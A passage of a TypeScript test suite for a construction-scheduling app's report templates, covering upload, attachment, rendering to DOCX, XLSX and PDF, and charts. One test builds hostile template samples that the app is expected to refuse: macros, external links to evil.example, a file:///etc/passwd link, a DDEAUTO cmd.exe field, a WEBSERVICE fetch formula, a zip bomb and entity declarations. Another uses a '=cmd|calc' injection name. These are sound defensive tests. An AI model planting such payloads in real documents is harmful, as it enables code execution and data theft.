import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import {
  accessGrant,
  costrEstimateCommands,
  costrEstimateCreate,
  costrPdcCreate,
  epsCreate,
  exportFile,
  galleryUpload,
  jobList,
  projectUpload,
  type ReportForm,
  reportAttach,
  reportDelete,
  reportDetach,
  reportFile,
  reportList,
  reportListOfNode,
  reportRename,
  reportRun,
  reportRuns,
  storageUpload,
  timetableCalculate,
  type Upload,
  uploadConfirm,
  uploadRead,
  versionReport,
  versionReportMaster,
  wbsCreate,
  wbsEdit,
} from '@plumbline/core/contract'
import type { EstimateCommand } from '@plumbline/core/documents/estimate'
import { writeXer } from '@plumbline/core/exchange'
import { masters } from '@plumbline/core/reports'
import { generatePlan } from '@plumbline/core/testing'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { commandOf } from '../../../../../core/src/documents/estimate/testing/command-of.ts'
import { exampleIds, workedExample } from '../../../../../core/src/estimates/testing/worked-example.ts'
import { type Installation, sharedInstallation } from '../../../../test/installation.ts'
import { photo } from '../../../../test/photo.ts'
import { admit, breakGround, eventually, type Site } from '../../../../test/planning.ts'
import { addTemplate, documentOf, documentWithChart, workbookOf } from '../../../../test/templates.ts'
import type { Visitor } from '../../../../test/visitor.ts'
import { readTableFile } from '../tables/index.ts'

let site: Installation
let maya: Visitor
let rita: Visitor
let ground: Site
let versionId = ''
let scheduleId = ''
beforeAll(async () => {
  site = await sharedInstallation()
  maya = await site.person('maya')
  rita = await site.person('rita')
  ground = await breakGround(maya)
  await admit(site, ground.spaceId, rita, 'reader')
  const plan = generatePlan({ seed: 5, works: 60 })
  const works = plan.rows.filter(({ type }) => type === 'work')
  if (works[0]) works[0].name = 'Бетонирование <A&B>'
  if (works[1]) works[1].name = '=cmd|calc'
  const { body } = await maya.upload(projectUpload, { projectId: ground.projectId }, writeXer(plan))
  const settled = (upload: Upload): Promise<Upload> =>
    eventually(async () => {
      const { upload: now } = await maya.ok(uploadRead, { params: { uploadId: upload.id } })
      return now.state !== 'uploading' && now
    }, 120)
  const ready = await settled(body.upload)
  const { upload } = await maya.ok(uploadConfirm, { params: { uploadId: ready.id }, input: {} })
  versionId = upload.versionId ?? ''
  scheduleId = upload.scheduleId ?? ''
}, 150_000)
afterAll(() => site.close())

const add = async (name: string, file: Uint8Array<ArrayBuffer>, epsId?: string): Promise<ReportForm> => {
  const reply = await addTemplate(maya, { spaceId: ground.spaceId, name, ...(epsId && { epsId }) }, file)
  expect(reply.body.error).toBeUndefined()
  return reply.body.report
}
const namesAt = async (who: Visitor, epsId: string) => {
  const { reports } = await who.ok(reportListOfNode, { params: { epsId }, input: {} })
  return reports.filter(({ isMaster }) => !isMaster).map(({ name, from }) => [name, from?.name])
}
const ended = (who: Visitor, jobId: string) =>
  eventually(async () => {
    const { jobs } = await who.ok(jobList, {})
    const job = jobs.find(({ id }) => id === jobId)
    return job && job.state !== 'running' && job
  })
async function fileOf(who: Visitor, jobId: string): Promise<Buffer> {
  expect(await ended(who, jobId)).toMatchObject({ kind: 'report', state: 'done', error: null })
  const { body } = await who.call(exportFile, { params: { jobId } })
  return Buffer.from(body as unknown as Uint8Array)
}
const textOf = (docx: Buffer): string =>
  strFromU8(unzipSync(docx)['word/document.xml']!)
    .replace(/<\/w:p>/g, '\n')
    .replace(/<[^>]*>/g, '')

describe('forms of reports', () => {
  test('R-REP-02 R-REP-12 R-EPS-01.report_form a form is a template with a name, tried and kept, and handed out as it came', async () => {
    const file = documentOf(['{project}: {#works where critical}{name}{/}'])
    const reply = await addTemplate(maya, { spaceId: ground.spaceId }, file, 'Site report.docx')
    expect(reply.body.report).toMatchObject({
      ...{ name: 'Site report', kind: 'docx', isMaster: false, places: [], editable: true, bytes: file.length },
      author: { id: maya.id },
    })
    const { body } = await rita.call(reportFile, {
      params: { reportId: reply.body.report.id },
      input: { spaceId: ground.spaceId },
    })
    expect(Buffer.from(body as unknown as Uint8Array).equals(Buffer.from(file))).toBe(true)
    const twice = await addTemplate(maya, { spaceId: ground.spaceId, name: 'SITE report' }, file)
    expect([twice.status, twice.body.error]).toEqual([409, 'REPORT_EXISTS'])
    expect((await addTemplate(rita, { spaceId: ground.spaceId }, file)).body.error).toBe('FORBIDDEN')
  })

  test('R-REP-01 all forms of a space are listed, and at a node those that are attached to it or above', async () => {
    const { node } = await maya.ok(epsCreate, {
      params: { spaceId: ground.spaceId },
      input: { kind: 'project', parentId: ground.facilityId, name: 'Elsewhere' },
    })
    await add('Of the project', documentOf(['x']), ground.projectId)
    await add('Of the schedule', workbookOf([['x']]), scheduleId)
    const { reports } = await rita.ok(reportList, { input: { spaceId: ground.spaceId, language: 'ru' } })
    expect(reports.filter(({ isMaster }) => isMaster).map(({ name }) => name)).toEqual(
      masters.map(({ title }) => title.ru),
    )
    expect(reports.filter(({ isMaster }) => !isMaster).map(({ name }) => name)).toEqual(
      expect.arrayContaining(['Of the project', 'Of the schedule']),
    )
    expect(await namesAt(rita, scheduleId)).toEqual([
      ['Of the project', 'A project'],
      ['Of the schedule', expect.any(String)],
    ])
    expect(await namesAt(rita, ground.projectId)).toEqual([['Of the project', 'A project']])
    expect(await namesAt(rita, node.id)).toEqual([])
  })

  test('R-REP-04 a form gets another name, and is attached to nodes', async () => {
    const { id } = await add('First name', documentOf(['x']))
    const rename = (who: Visitor, name: string) => who.call(reportRename, { params: { reportId: id }, input: { name } })
    expect((await rename(maya, 'Of the project')).body.error).toBe('REPORT_EXISTS')
    expect((await rename(rita, 'Mine')).body.error).toBe('FORBIDDEN')
    expect((await rename(maya, 'Second name')).body.report).toMatchObject({ name: 'Second name' })
    const at = { reportId: id, epsId: ground.facilityId }
    await maya.ok(reportAttach, { params: at, input: {} })
    const { report } = await maya.ok(reportAttach, { params: at, input: {} })
    expect(report.places).toEqual([{ id: ground.facilityId, name: 'A facility' }])
    expect(await namesAt(rita, scheduleId)).toContainEqual(['Second name', 'A facility'])
  })

  test('R-REP-05 R-REP-03 a form is taken off a node, and deleted with all its places', async () => {
    const { id } = await add('Short', documentOf(['x']), ground.facilityId)
    expect(await namesAt(rita, ground.projectId)).toContainEqual(['Short', 'A facility'])
    await maya.ok(reportDetach, { params: { reportId: id, epsId: ground.facilityId } })
    expect(await namesAt(rita, ground.projectId)).not.toContainEqual(['Short', 'A facility'])
    expect((await rita.call(reportDelete, { params: { reportId: id } })).body.error).toBe('FORBIDDEN')
    await maya.ok(reportDelete, { params: { reportId: id } })
    expect((await maya.call(reportDelete, { params: { reportId: id } })).body.error).toBe('NOT_FOUND')
  })

  test('what is wrong with a template is told with its place, and nothing is kept', async () => {
    const wrong = async (file: Uint8Array<ArrayBuffer>) => {
      const { status, body } = await addTemplate(maya, { spaceId: ground.spaceId, name: 'Wrong' }, file)
      return [status, body.error, body.params?.mark, body.params?.place]
    }
    const split = '<w:p><w:r><w:t>Split {pro</w:t></w:r><w:r><w:t>jekt}</w:t></w:r></w:p>'
    expect(await wrong(documentOf(['Fine', 'Then {projekt} here']))).toEqual([
      ...[422, 'REPORT_MARK_UNKNOWN', 'projekt', 'document ¶2'],
    ])
    expect((await wrong(documentOf([split]))).slice(0, 3)).toEqual([422, 'REPORT_MARK_UNKNOWN', 'projekt'])
    expect((await wrong(documentOf(['{#works}{name}']))).slice(0, 2)).toEqual([422, 'REPORT_MARK_ALONE'])
    expect((await wrong(documentOf(['{name +}']))).slice(0, 2)).toEqual([422, 'REPORT_MARK_WRONG'])
    expect(await wrong(workbookOf([['a'], ['b', '{#works}{nam}{/}']]))).toEqual([
      ...[422, 'REPORT_MARK_UNKNOWN', 'nam', 'Critical works!B2'],
    ])
    const { reports } = await maya.ok(reportList, { input: { spaceId: ground.spaceId } })
    expect(reports.some(({ name }) => name === 'Wrong')).toBe(false)
  })

  test('hostile templates are refused: code, ways out of the file, bombs, broken files', async () => {
    const withPart = (path: string, text: string) => (file: Uint8Array) =>
      new Uint8Array(zipSync({ ...unzipSync(file), [path]: strToU8(text) }))
    const [document, book] = [documentOf(['x']), workbookOf([['x']])]
    const relation = (type: string, target: string) =>
      `<Relationships xmlns="r"><Relationship Id="rId9" Type="http://o/${type}" Target="${target}" TargetMode="External"/></Relationships>`
    const field = (code: string) => `<w:p><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`
    const bomb = new Uint8Array(zipSync({ ...unzipSync(document), 'word/media/a.xml': new Uint8Array(30_000_000) }))
    const hostile: Record<string, [Uint8Array<ArrayBuffer>, string]> = {
      macros: [withPart('word/vbaProject.bin', 'x')(document), 'REPORT_UNSAFE'],
      'macros of a type': [
        documentOf(['x'], (parts) =>
          parts.map(({ path, text }) => ({
            path,
            text: text.replace('wordprocessingml.document.main', 'document.macroEnabled.main'),
          })),
        ),
        'REPORT_UNSAFE',
      ],
      'a foreign template': [
        withPart('word/_rels/settings.xml.rels', relation('attachedTemplate', 'https://evil.example/t.dotm'))(document),
        'REPORT_UNSAFE',
      ],
      'a foreign picture': [
        withPart('word/_rels/a.rels', relation('image', 'http://evil.example/p.png'))(document),
        'REPORT_UNSAFE',
      ],
      'a link into the machine': [
        withPart('word/_rels/a.rels', relation('hyperlink', 'file:///etc/passwd'))(document),
        'REPORT_UNSAFE',
      ],
      'a field that runs': [documentOf([field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe')]), 'REPORT_UNSAFE'],
      'a field in pieces': [
        documentOf([
          '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE http://e</w:instrText></w:r></w:p>',
        ]),
        'REPORT_UNSAFE',
      ],
      'a formula that fetches': [workbookOf([['=WEBSERVICE("http://evil.example")']]), 'REPORT_UNSAFE'],
      'a formula of another file': [workbookOf([['=[1]Sheet1!A1']]), 'REPORT_UNSAFE'],
      'another file': [withPart('xl/externalLinks/externalLink1.xml', '<a/>')(book), 'REPORT_UNSAFE'],
      'a bomb': [bomb, 'REPORT_TOO_LARGE'],
      'entities that grow': [
        withPart('word/document.xml', '<!DOCTYPE a [<!ENTITY b "cc">]><w:document>&b;</w:document>')(document),
        'REPORT_NO_TEMPLATE',
      ],
      'no archive': [new Uint8Array(Buffer.from('PK not an archive')), 'REPORT_NO_TEMPLATE'],
      'another archive': [new Uint8Array(zipSync({ 'a.txt': strToU8('x') })), 'REPORT_NO_TEMPLATE'],
      'half of one': [new Uint8Array(document.slice(0, document.length / 2)), 'REPORT_NO_TEMPLATE'],
      'a loop in a loop in a loop': [
        workbookOf([['{#works}', '{#works}', '{#works}', '{#works}', '{name}', '{/}', '{/}', '{/}', '{/}']]),
        '',
      ],
    }
    for (const [what, [file, code]] of Object.entries(hostile)) {
      const { status, body } = await addTemplate(maya, { spaceId: ground.spaceId, name: what }, file)
      expect([what, body.error ?? ''], what).toEqual([what, code])
      expect(status, what).toBe(code === '' ? 200 : 422)
    }
  })
})

describe('reports', () => {
  const run = (who: Visitor, reportId: string, format: 'docx' | 'xlsx', epsId: string | null, input: object = {}) =>
    who.call(reportRun, { params: { reportId, as: format }, input: { spaceId: ground.spaceId, epsId, ...input } })

  test('R-REP-04 R-REP-06 a report of a node is written by a job, with what was chosen, and fetched', async () => {
    const form = await add(
      'Chosen',
      documentOf([
        '{place} {year} {period.start}–{period.finish} {schedule}',
        '{#rows}',
        '{name};',
        '{/}',
        '{#works}W{/}',
      ]),
    )
    const period = { start: '2026-02-01 00:00:00', finish: '2026-02-28 23:59:59' }
    const { body } = await run(rita, form.id, 'docx', scheduleId, { year: 2031, rows: 'summaries', level: 1, period })
    const text = textOf(await fileOf(rita, body.jobId))
    expect(text).toContain('A facility / A project / ')
    expect(text).toContain('2031 01.02.2026–28.02.2026')
    expect(text.match(/;/g)!.length).toBeLessThan(10)
    expect(text).toMatch(/W{60}/)
    expect((await run(rita, form.id, 'xlsx', scheduleId)).body.error).toBe('REPORT_OTHER_FORMAT')
    const { runs } = await rita.ok(reportRuns, { input: { spaceId: ground.spaceId } })
    expect(runs[0]).toMatchObject({ reportId: form.id, name: 'Chosen', kind: 'docx', state: 'done', hasFile: true })
    expect((await maya.ok(reportRuns, { input: { spaceId: ground.spaceId } })).runs).toEqual([])
    expect((await maya.call(exportFile, { params: { jobId: body.jobId } })).body.error).toBe('NOT_FOUND')
  })

  test('R-SCH-14 a version is reported by a form of a client and by one of ours, the works that are shown alone', async () => {
    const form = await add(
      'Book',
      workbookOf([['{schedule}'], ['{#works}{name}', '{start}', '{percent}{/}'], ['=COUNTA(A2:A2)']]),
    )
    const { jobId } = await rita.ok(versionReport, { params: { versionId, reportId: form.id }, input: {} })
    const [sheet] = (await readTableFile(await fileOf(rita, jobId))).sheets
    const rows = sheet!.rows.map(({ cells }) => cells)
    expect(rows).toHaveLength(61)
    const named = rows.find(([name]) => name === 'Бетонирование <A&B>')
    expect(named?.[1]).toMatchObject({ day: expect.any(Number) })
    // What people typed is a text, whatever it begins with.
    expect(rows.some(([name]) => name === '=cmd|calc')).toBe(true)

    for (const master of masters) {
      const params = { versionId, masterId: master.id }
      const { jobId } = await rita.ok(versionReportMaster, { params, input: { language: 'ru' } })
      const file = await fileOf(rita, jobId)
      expect(Object.keys(unzipSync(file))).toContain(master.kind === 'docx' ? 'word/document.xml' : 'xl/workbook.xml')
      const all = Object.values(unzipSync(file))
        .map((part) => strFromU8(part))
        .join('')
      expect(all, master.id).toContain(master.title.ru)
      expect(all.replace(/<[^>]*>/g, ''), master.id).not.toMatch(/\{[#/\w]/)
    }
    const unknown = await rita.call(versionReportMaster, { params: { versionId, masterId: 'report_other' }, input: {} })
    expect(unknown.body.error).toBe('NOT_FOUND')
  }, 120_000)

  const chartOf = (docx: Buffer): string => strFromU8(unzipSync(docx)['word/charts/chart1.xml']!)
  const valuesIn = (chart: string): string[] => [...chart.matchAll(/<c:v>([^<]*)<\/c:v>/g)].map(([, text]) => text!)

  test('a chart of a document shows what its title says, with names as people wrote them', async () => {
    const form = await add('Chart', documentWithChart("Works {chart works: name, percent 'Done <%>', level}"))
    const { jobId } = await rita.ok(versionReport, { params: { versionId, reportId: form.id }, input: {} })
    const chart = chartOf(await fileOf(rita, jobId))
    const values = valuesIn(chart)
    expect(values).not.toContain('Placeholder')
    expect(values).toContain('Бетонирование &lt;A&amp;B&gt;')
    expect(values).toContain('Done &lt;%&gt;')
    expect(values).toContain('level')
    expect(chart.match(/<c:ptCount val="60"/g)).toHaveLength(4)
    expect(chart.replace(/<[^>]*>/g, '')).toMatch(/^\s*Works /)
    // Of nothing there is a chart with nothing in it.
    const none = await add('No chart', documentWithChart('{chart works where level > 90: name, percent}'))
    const { jobId: of } = await rita.ok(versionReport, { params: { versionId, reportId: none.id }, input: {} })
    expect(valuesIn(chartOf(await fileOf(rita, of)))).toEqual(['percent'])
  })

  test('what is wrong with the mark of a chart is told with its place', async () => {
    const wrong = async (file: Uint8Array<ArrayBuffer>) => {
      const { body } = await addTemplate(maya, { spaceId: ground.spaceId, name: 'Wrong chart' }, file)
      return [body.error, body.params?.place]
    }
    const place = 'charts/chart1 ¶1'
    expect(await wrong(documentWithChart('{chart works: name, nothing}'))).toEqual(['REPORT_MARK_UNKNOWN', place])
    expect(await wrong(documentWithChart('{chart works: name, name}'))).toEqual(['REPORT_MARK_WRONG', place])
    expect(await wrong(documentWithChart('{chart works: name}'))).toEqual(['REPORT_MARK_WRONG', place])
    expect(await wrong(documentWithChart('{chart works name, percent}'))).toEqual(['REPORT_MARK_WRONG', place])
    expect((await wrong(documentOf(['{chart works: name, percent}'])))[0]).toBe('REPORT_MARK_WRONG')
  })

  /** In millimetres, as they stand in the document. */
  const picturesIn = (docx: Buffer): number[][] =>
    [...strFromU8(unzipSync(docx)['word/document.xml']!).matchAll(/<wp:extent cx="(\d+)" cy="(\d+)"/g)].map(
      ([, ...size]) => size.map((emu) => Math.round(Number(emu) / 3_600) / 10),
    )

  test('REPORT-14 pictures of the gallery stand in a document in the size that the template says', async () => {
    const upload = async (epsId: string, caption: string) =>
      expect((await maya.upload(galleryUpload, { epsId }, await photo(), { caption })).body.error).toBeUndefined()
    await upload(ground.projectId, 'Logo <&>')
    await upload(scheduleId, 'Slab')
    const form = await add(
      'Pictures',
      documentOf([
        "{#placePictures where caption = 'Logo &lt;&amp;&gt;'}{picture | 30x20}{/}",
        '{#pictures}',
        '{picture | 60x40} {caption} {author};',
        '{/}',
        '{#works where pictures}of a work{/}',
      ]),
    )
    const { jobId } = await rita.ok(versionReport, { params: { versionId, reportId: form.id }, input: {} })
    const file = await fileOf(rita, jobId)
    expect(picturesIn(file)).toEqual([
      [30, 10],
      [60, 20],
    ])
    expect(textOf(file)).toMatch(/ Slab .*;/)
    expect(textOf(file)).not.toContain('of a work')
    const parts = unzipSync(file)
    const media = Object.keys(parts).filter((path) => /^word.media..+/.test(path))
    for (const path of media) expect([...parts[path]!.subarray(0, 3)], path).toEqual([0xff, 0xd8, 0xff])
    expect(media.length).toBeGreaterThan(0)
    const input = { as: 'pdf' } as const
    const pages = await rita.ok(versionReport, { params: { versionId, reportId: form.id }, input })
    expect((await fileOf(rita, pages.jobId)).toString('latin1')).toContain('/Subtype /Image')
  })

  test('REPORT-15 the chronology of a claim tells who changed what, and where the finish went, as a document and as a table', async () => {
    const claims = await breakGround(maya, 'Claims')
    await admit(site, claims.spaceId, rita, 'reader')
    const params = { versionId: claims.versionId }
    const input = { parentId: null, after: null, name: 'Pit <A>', durationMinutes: 480 }
    const { row } = await maya.ok(wbsCreate, { params, input })
    await maya.ok(timetableCalculate, { params })
    await maya.ok(wbsEdit, { params: { ...params, wbsId: row.id }, input: { durationMinutes: 4_800 } })
    await maya.ok(timetableCalculate, { params })
    const as = (masterId: string, language: 'en' | 'ru') =>
      rita.ok(versionReportMaster, { params: { ...params, masterId }, input: { language } })
    const text = textOf(await fileOf(rita, (await as('report_claim', 'ru')).jobId))
    expect(text).toContain('Хронология для претензий')
    expect(text).toContain('Строка добавлена')
    expect(text).toContain('Длительность: 1 дн. → 10 дн.')
    const [sheet] = (await readTableFile(await fileOf(rita, (await as('report_event', 'en')).jobId))).sheets
    const longer = sheet!.rows.find(({ cells }) => cells.includes('Duration: 1 d → 10 d'))
    expect(longer?.cells).toContainEqual(expect.stringMatching(/Pit <A>$/))
    expect(longer?.cells.slice(6)).toEqual([
      { day: expect.any(Number), minute: null },
      expect.anything(),
      expect.any(Number),
    ])
    expect(Number(longer?.cells[8])).toBeGreaterThan(0)
    // Of a period in which nothing happened there is nothing.
    const period = { start: '2001-01-01 00:00:00', finish: '2001-01-31 23:59:59' }
    const none = await rita.ok(versionReportMaster, {
      ...{ params: { ...params, masterId: 'report_claim' }, input: { language: 'en', period } },
    })
    expect(textOf(await fileOf(rita, none.jobId))).not.toContain('Duration')
  })

  test('REPORT-16 estimates stand in a report with what is done of them and contract prices, for who may read the schedule', async () => {
    const costs = await breakGround(maya, 'Costs')
    await admit(site, costs.spaceId, rita, 'reader')
    const [ofSchedule, ofVersion] = [{ scheduleId: costs.scheduleId }, { versionId: costs.versionId }]
    const work = { parentId: null, after: null, name: 'Slab', durationMinutes: 480 }
    const { row } = await maya.ok(wbsCreate, { params: ofVersion, input: work })
    await maya.ok(wbsEdit, {
      params: { ...ofVersion, wbsId: row.id },
      input: { actualStart: '2026-03-02T08:00', percent: 40 },
    })
    const input = { number: '02-07', name: 'Slab <A>' }
    const { estimate } = await maya.ok(costrEstimateCreate, { params: ofSchedule, input })
    const matches = [{ itemId: exampleIds.a, workId: row.id, share: '1' }]
    const say = (command: EstimateCommand) =>
      maya.ok(costrEstimateCommands, {
        ...{ params: { estimateId: estimate.id }, input: { commands: [command] as never } },
      })
    await say(commandOf(workedExample()))
    await say({ do: 'match.set', matches })
    const asked = { number: 'P-1', estimateIds: [estimate.id], k: '0.97', vat: '20' }
    await maya.ok(costrPdcCreate, { params: ofSchedule, input: asked })
    const cellsOf = async (who: Visitor) => {
      const params = { ...ofVersion, masterId: 'report_costs' }
      const { jobId } = await who.ok(versionReportMaster, { params, input: { language: 'ru' } })
      return (await readTableFile(await fileOf(who, jobId))).sheets.map(({ rows }) =>
        rows.flatMap(({ cells }) => cells),
      )
    }
    const [estimates, items, done, agreed] = await cellsOf(rita)
    for (const cell of ['02-07', 'Slab <A>', 'черновик', 2_402_697.31, 646_250.03]) expect(estimates).toContain(cell)
    for (const cell of ['06-08-02', 1_615_625.07]) expect(items).toContain(cell)
    for (const cell of ['06-08-02', 0.6, 646_250.03]) expect(done).toContain(cell)
    expect(agreed).toContain('P-1')
    // Where estimates were not bought there are none to tell of.
    await site.sql(
      `INSERT INTO app.licences (id, space_id, name, token, fingerprint, active, loaded_by) VALUES ('endedcosts00', $1, 'Ended', 'x', 'endedcosts', false, $2)`,
      [costs.spaceId, maya.id],
    )
    expect((await cellsOf(maya)).flat()).not.toContain('02-07')
  })

  test('a picture in a size that is none is told with its place', async () => {
    const file = documentOf(['Fine', '{#pictures}{picture | wide}{/}'])
    const { status, body } = await addTemplate(maya, { spaceId: ground.spaceId, name: 'Wrong size' }, file)
    const told = [status, body.error, body.params?.mark, body.params?.place]
    expect(told).toEqual([422, 'REPORT_MARK_WRONG', '{picture | wide}', 'document ¶2'])
  })

  const hasPoppler = spawnSync('pdftotext', ['-v']).error === undefined
  test.runIf(hasPoppler)(
    'a report is written as pages: each of our forms, in both languages, with its letters in the file',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'pages-'))
      for (const [i, master] of masters.entries()) {
        const language = i % 2 === 0 ? 'ru' : 'en'
        const params = { versionId, masterId: master.id }
        const { jobId } = await rita.ok(versionReportMaster, { params, input: { language, as: 'pdf' } })
        const path = join(folder, `${master.id}.pdf`)
        writeFileSync(path, await fileOf(rita, jobId))
        const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' })
        expect(text, master.id).toContain(master.title[language])
        expect(text, master.id).not.toMatch(/[{}]/)
        const [, width, height] = /\/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]/.exec(readFileSync(path, 'latin1')) ?? []
        expect(Math.abs((Number(width) / 72) * 25.4 - 297), master.id).toBeLessThan(0.1)
        expect(Math.abs((Number(height) / 72) * 25.4 - 210), master.id).toBeLessThan(0.1)
        const fonts = execFileSync('pdffonts', [path], { encoding: 'utf8' }).trim().split('\n').slice(2)
        for (const font of fonts) expect(font).toMatch(/Inter-\w+.+ yes yes yes /)
      }
    },
    120_000,
  )

  test('a form of a client becomes pages as well; a formula that is not worked out there is told with its cell', async () => {
    const form = await add(
      'Pages',
      workbookOf([
        ['{#works}{name}', '{percent}{/}'],
        ['=SUM(B1:B1)', '=ROWS(A1:A1)'],
      ]),
    )
    const input = { as: 'pdf' } as const
    const { jobId } = await rita.ok(versionReport, { params: { versionId, reportId: form.id }, input })
    const pdf = await fileOf(rita, jobId)
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-')
    const { runs } = await rita.ok(reportRuns, { input: { spaceId: ground.spaceId } })
    expect(runs.find((run) => run.jobId === jobId)).toMatchObject({ kind: 'pdf', name: 'Pages' })
    const other = await add('Unread', workbookOf([['{schedule}'], ['=VLOOKUP(1,A1:A2,1)']]))
    const refused = await rita.ok(versionReport, { params: { versionId, reportId: other.id }, input })
    expect(await ended(rita, refused.jobId)).toMatchObject({
      state: 'failed',
      error: { code: 'REPORT_FORMULA', params: { mark: '=VLOOKUP(1,A1:A2,1)', place: 'Critical works!A2' } },
    })
  })

  test('REPORT-18 pictures among the documents of a schedule stand in a document, the newest of each name', async () => {
    const send = async (name: string, content: Uint8Array<ArrayBuffer>) => {
      const sent = await maya.upload(storageUpload, { scheduleId }, new File([content], name))
      expect(sent.body.error).toBeUndefined()
    }
    await send('North.jpg', await photo())
    await send('north.jpg', await photo())
    await send('Letter.pdf', strToU8('%PDF-1.7 no picture'))
    const form = await add(
      'Stored',
      documentOf([
        "{#storedPictures}[{caption}]{/}{#storedPictures where caption = 'north.jpg'}{picture | 30x20} {caption} {author};{/}",
      ]),
    )
    const { jobId } = await rita.ok(versionReport, { params: { versionId, reportId: form.id }, input: {} })
    const file = await fileOf(rita, jobId)
    expect(textOf(file)).toMatch(/^\[north\.jpg\] north\.jpg .*;\s*$/)
    expect(picturesIn(file)).toEqual([[30, 10]])
  })

  test('REPORT-17 the Gantt of a report is drawn by the painter that prints, as vectors and as dots', async () => {
    const form = await add('Drawn', documentOf(['{gantt | 200x80}', 'Below']))
    const asked = (as: 'docx' | 'pdf') =>
      rita.ok(versionReport, { params: { versionId, reportId: form.id }, input: { as } })
    const file = await fileOf(rita, (await asked('docx')).jobId)
    const sizes = picturesIn(file)
    expect(sizes.length).toBeGreaterThan(1)
    expect(sizes.map(([width]) => width)).toEqual(sizes.map(() => 200))
    // Each is full of whole rows but for the last one.
    expect(new Set(sizes.slice(0, -1).map(([, height]) => height)).size).toBe(1)
    expect(sizes[0]?.[1]).toBeGreaterThan(80 - 5)
    expect(Math.max(...sizes.map(([, height = 0]) => height))).toBeLessThanOrEqual(80)
    const parts = unzipSync(file)
    const media = Object.keys(parts).filter((path) => path.startsWith('word/media/'))
    const [svgs, pngs] = ['.svg', '.png'].map((end) => media.filter((path) => path.endsWith(end)))
    expect([svgs?.length, pngs?.length]).toEqual([sizes.length, sizes.length])
    for (const path of pngs ?? []) {
      const { format, width } = await sharp(parts[path]).metadata()
      expect([format, Math.round(width / 10)]).toEqual(['png', Math.round((200 / 25.4) * 22)])
    }
    for (const path of svgs ?? []) expect(strFromU8(parts[path]!)).not.toMatch(/<text|<script|href/)
    const xml = strFromU8(parts['word/document.xml']!)
    expect(xml.match(/<asvg:svgBlip /g)?.length).toBe(sizes.length)
    // On pages it is no picture: names of works are text there.
    const folder = mkdtempSync(join(tmpdir(), 'gantt-'))
    const path = join(folder, 'chart.pdf')
    writeFileSync(path, await fileOf(rita, (await asked('pdf')).jobId))
    const shown = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' })
    expect(shown).toContain('Бетонирование <A&B>')
    expect(execFileSync('pdfimages', ['-list', path], { encoding: 'utf8' }).trim().split('\n').length).toBe(2)
    const { body } = await addTemplate(
      maya,
      { spaceId: ground.spaceId, name: 'Wide' },
      documentOf(['{gantt | 2000x60}']),
    )
    expect(body.error).toBe('REPORT_MARK_WRONG')
  })

  test('REPORT-17 REPORT-14 a workbook has the Gantt and pictures at its cells, as vectors and as fine dots', async () => {
    const sent = await maya.upload(storageUpload, { scheduleId }, new File([await photo()], 'Crane.jpg'))
    expect(sent.body.error).toBeUndefined()
    const rows = [
      ['Chart'],
      ['{gantt | 200x170}', '=1+1'],
      ["{#storedPictures where caption = 'Crane.jpg'}{picture | 30x20}{/}", 'of {gantt}'],
      ['=B2+40'],
    ]
    const form = await add('Drawn in cells', workbookOf(rows))
    const asked = (as: 'xlsx' | 'pdf') =>
      rita.ok(versionReport, { params: { versionId, reportId: form.id }, input: { as } })
    const parts = unzipSync(await fileOf(rita, (await asked('xlsx')).jobId))
    const drawing = strFromU8(parts['xl/drawings/drawing1.xml']!)
    const sizes = [...drawing.matchAll(/<xdr:ext cx="(\d+)" cy="(\d+)"/g)].map(([, ...of]) =>
      of.map((emu) => Number(emu) / 36_000),
    )
    expect(sizes.at(-1)).toEqual([30, 10])
    expect(sizes.slice(0, -1).map(([width]) => width)).toEqual(sizes.slice(0, -1).map(() => 200))
    expect(Math.max(...sizes.map(([, height = 0]) => height))).toBeLessThanOrEqual(170)
    const media = Object.keys(parts).filter((path) => path.startsWith('xl/media/'))
    const [svgs, pngs, photos] = ['svg', 'png', 'jpeg'].map((end) => media.filter((path) => path.endsWith(`.${end}`)))
    expect([svgs?.length, pngs?.length, photos?.length]).toEqual([sizes.length - 1, sizes.length - 1, 1])
    for (const path of pngs ?? []) {
      const { format, width } = await sharp(parts[path]).metadata()
      expect([format, Math.round(width / 10)]).toEqual(['png', Math.round(((200 / 25.4) * 220) / 10)])
    }
    for (const path of svgs ?? []) expect(strFromU8(parts[path]!)).toMatch(/^<svg(?!.*<(?:text|script))/s)
    const targets = [...strFromU8(parts['xl/drawings/_rels/drawing1.xml.rels']!).matchAll(/Target="\/([^"]*)"/g)]
    expect(targets.map(([, path]) => path).toSorted()).toEqual(media.toSorted())
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!)
    expect(sheet).toMatch(/<f>B2\+40<\/f>/)
    expect(sheet).toMatch(/of [^<{]+</)
    // On pages it is drawn, and names of works are text.
    const path = join(mkdtempSync(join(tmpdir(), 'gantt-')), 'book.pdf')
    writeFileSync(path, await fileOf(rita, (await asked('pdf')).jobId))
    expect(execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' })).toContain('Бетонирование <A&B>')
    const { body } = await addTemplate(
      maya,
      { spaceId: ground.spaceId, name: 'Wide cell' },
      workbookOf([['{gantt | 2000x60}']]),
    )
    expect(body).toMatchObject({ error: 'REPORT_MARK_WRONG', params: { place: 'Critical works!A1' } })
  })

  test.runIf(process.env.SLOW)(
    'a report of more than 200 schedules has each of them',
    async () => {
      // In a space of their own: the other reports are of all schedules of theirs.
      const { spaceId, projectId: parentId } = await breakGround(maya, 'Many')
      for (let at = 0; at < 205; at += 5) {
        const names = Array.from({ length: 5 }, (_, i) => `S${at + i}`)
        const input = { kind: 'schedule', parentId } as const
        await Promise.all(names.map((name) => maya.ok(epsCreate, { params: { spaceId }, input: { ...input, name } })))
      }
      const { body: added } = await addTemplate(
        maya,
        { spaceId, name: 'Each' },
        documentOf(['{#schedules}[{name}]{/}']),
      )
      const params = { reportId: added.report.id, as: 'docx' } as const
